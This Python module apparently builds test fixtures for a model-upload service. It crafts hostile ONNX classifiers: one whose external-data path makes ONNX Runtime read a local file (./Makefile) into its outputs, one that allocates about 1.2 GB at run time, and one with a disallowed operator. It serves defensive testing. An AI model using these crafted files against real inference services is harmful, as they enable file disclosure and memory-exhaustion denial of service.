"""Crafted ONNX files that a hostile uploader would send (issue 11, finding 2).

Each is a complete, valid binary classifier (input ``image`` [1, 3, size, size],
output ``probabilities`` [1, 2]) so that only the hostile part can get it refused:

- :func:`external_data_model`: its weights live in a *file path* (``./Makefile`` by
  default), which ONNX Runtime resolves against the working directory;
- :func:`memory_bomb_model`: small on disk, but allocates ``bomb_bytes`` at run time
  through ``ConstantOfShape`` of a shape computed from the input (so no load-time
  constant folding can see it);
- :func:`disallowed_op_model`: uses an operator outside the allow-list.
"""

from __future__ import annotations

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper

SIZE = 32


def _input(size: int = SIZE) -> onnx.ValueInfoProto:
    return helper.make_tensor_value_info("image", TensorProto.FLOAT, [1, 3, size, size])


_OUTPUT = helper.make_tensor_value_info("probabilities", TensorProto.FLOAT, [1, 2])


def _model(nodes: list[onnx.NodeProto], initializers: list[onnx.TensorProto], check: bool = True) -> bytes:
    graph = helper.make_graph(nodes, "hostile", [_input()], [_OUTPUT], initializer=initializers)
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    if check:
        onnx.checker.check_model(model)
    return model.SerializeToString()


def _classifier_tail(features: str) -> list[onnx.NodeProto]:
    """features [1, 3] → probabilities [1, 2]."""
    return [
        helper.make_node("MatMul", [features, "weights"], ["logits"]),
        helper.make_node("Softmax", ["logits"], ["probabilities"], axis=1),
    ]


def external_data_model(location: str = "Makefile", length: int = 6, size: int = SIZE) -> bytes:
    """The first ``length`` bytes of the file at ``location`` become the weights [3, length/3],
    so the answers carry the file's bytes (what leaked the cloud's ``./Makefile``)."""
    leak = onnx.TensorProto()
    leak.name = "leak"
    leak.data_type = TensorProto.UINT8
    leak.dims.extend([length])
    leak.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", str(length))):
        entry = leak.external_data.add()
        entry.key, entry.value = key, value
    nodes = [
        helper.make_node("GlobalAveragePool", ["image"], ["pooled"]),
        helper.make_node("Flatten", ["pooled"], ["features"], axis=1),
        helper.make_node("Cast", ["leak"], ["leak_f"], to=TensorProto.FLOAT),
        helper.make_node("Reshape", ["leak_f", "shape"], ["weights"]),
        *_classifier_tail("features"),
    ]
    shape = numpy_helper.from_array(np.array([3, length // 3], dtype=np.int64), "shape")
    graph = helper.make_graph(
        nodes,
        "hostile",
        [_input(size)],
        [helper.make_tensor_value_info("probabilities", TensorProto.FLOAT, [1, length // 3])],
        initializer=[leak, shape],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    return model.SerializeToString()


def memory_bomb_model(bomb_bytes: int = 1_200_000_000) -> bytes:
    """Allocates ``bomb_bytes`` of float32 per run, from a shape that depends on the pixels."""
    count = bomb_bytes // 4
    nodes = [
        helper.make_node("ReduceMax", ["image"], ["peak"], keepdims=0),
        helper.make_node("Cast", ["peak"], ["peak_i"], to=TensorProto.INT64),
        helper.make_node("Add", ["peak_i", "count"], ["length"]),
        helper.make_node("Reshape", ["length", "one"], ["bomb_shape"]),
        helper.make_node("ConstantOfShape", ["bomb_shape"], ["bomb"]),
        helper.make_node("ReduceMean", ["bomb"], ["bomb_mean"], keepdims=1),
        helper.make_node("GlobalAveragePool", ["image"], ["pooled"]),
        helper.make_node("Flatten", ["pooled"], ["flat"], axis=1),
        helper.make_node("Add", ["flat", "bomb_mean"], ["features"]),
        *_classifier_tail("features"),
    ]
    initializers = [
        numpy_helper.from_array(np.array(count, dtype=np.int64), "count"),
        numpy_helper.from_array(np.array([1], dtype=np.int64), "one"),
        numpy_helper.from_array(np.array([[-2.0, 2.0]] * 3, dtype=np.float32), "weights"),
    ]
    return _model(nodes, initializers)


def disallowed_op_model(op_type: str = "Einsum", domain: str = "") -> bytes:
    """The brightness classifier with one extra operator ``op_type`` (identity-like use)."""
    if op_type == "Einsum":
        extra = helper.make_node("Einsum", ["pooled_flat"], ["features"], equation="ij->ij")
    else:
        extra = helper.make_node(op_type, ["pooled_flat"], ["features"], domain=domain)
    nodes = [
        helper.make_node("GlobalAveragePool", ["image"], ["pooled"]),
        helper.make_node("Flatten", ["pooled"], ["pooled_flat"], axis=1),
        extra,
        *_classifier_tail("features"),
    ]
    initializers = [numpy_helper.from_array(np.array([[-2.0, 2.0]] * 3, dtype=np.float32), "weights")]
    return _model(nodes, initializers, check=not domain)
